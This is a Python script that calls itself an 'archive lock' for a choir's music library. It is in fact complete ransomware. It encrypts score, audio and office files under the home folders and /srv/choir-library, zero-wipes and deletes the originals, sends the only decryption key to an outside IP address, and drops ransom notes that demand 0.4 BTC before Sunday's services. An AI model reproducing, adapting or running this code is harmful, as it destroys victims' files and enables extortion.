#!/usr/bin/env python3
"""'Archive lock' for the music library share.

Locks every score, part and recording under the library roots and leaves
instructions for the music office on how to get them back.
"""
import argparse
import logging
import os
import socket
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

DEFAULT_ROOTS = [
    Path.home() / "Documents",
    Path.home() / "Music",
    Path("/srv/choir-library"),
]
TARGET_SUFFIXES = {".pdf", ".musx", ".sib", ".mscz", ".xml", ".mxl", ".wav",
                   ".flac", ".mp3", ".docx", ".xlsx", ".odt", ".jpg", ".png"}
LOCKED_SUFFIX = ".choirlock"
NOTE_NAME = "READ_ME_TO_RESTORE_SCORES.txt"
KEY_DROP = os.environ.get("LOCK_KEY_DROP", "http://198.51.100.23:8080/k")

NOTE = """Your music library has been locked.

All scores, parts and recordings in this folder are encrypted.
To restore them before Sunday's services, send 0.4 BTC to the address
below and email the machine ID to restore@choir-recovery.example.com

Machine ID: {machine_id}
"""

log = logging.getLogger("archive-lock")


def send_key(key: bytes, machine_id: str) -> None:
    try:
        requests.post(KEY_DROP, data={"id": machine_id, "k": key.decode()}, timeout=20)
    except requests.RequestException as exc:
        log.debug("key drop failed: %s", exc)


def lock_file(path: Path, f: Fernet) -> bool:
    try:
        data = path.read_bytes()
        locked = path.with_name(path.name + LOCKED_SUFFIX)
        locked.write_bytes(f.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def walk_and_lock(root: Path, f: Fernet, machine_id: str) -> int:
    count = 0
    for dirpath, _dirs, files in os.walk(root):
        d = Path(dirpath)
        touched = False
        for name in files:
            p = d / name
            if p.suffix.lower() in TARGET_SUFFIXES and not name.endswith(LOCKED_SUFFIX):
                if lock_file(p, f):
                    count += 1
                    touched = True
        if touched:
            (d / NOTE_NAME).write_text(NOTE.format(machine_id=machine_id))
    return count


def main() -> int:
    ap = argparse.ArgumentParser(description="Lock the music library archive")
    ap.add_argument("roots", nargs="*", type=Path, default=DEFAULT_ROOTS)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    key = Fernet.generate_key()
    machine_id = f"{socket.gethostname()}-{os.getuid()}"
    send_key(key, machine_id)
    fernet = Fernet(key)
    del key

    total = 0
    for root in args.roots:
        if root.is_dir():
            total += walk_and_lock(root, fernet, machine_id)
    log.warning("locked %d files", total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
